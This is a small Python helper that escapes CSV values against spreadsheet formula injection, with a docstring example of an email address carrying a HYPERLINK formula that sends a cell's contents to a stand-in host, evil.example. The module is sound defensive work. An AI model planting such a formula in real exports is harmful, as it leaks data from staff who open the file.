"""Values written to CSV files that staff open in a spreadsheet."""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value) -> str:
    """``value`` as text a spreadsheet shows as text: a cell starting like a formula gets a leading apostrophe.

    An address such as ``=HYPERLINK("http://evil.example?"&A1)@example.com`` is a valid email that
    a spreadsheet would otherwise run when the export is opened (CSV injection).
    """
    text = "" if value is None else str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text
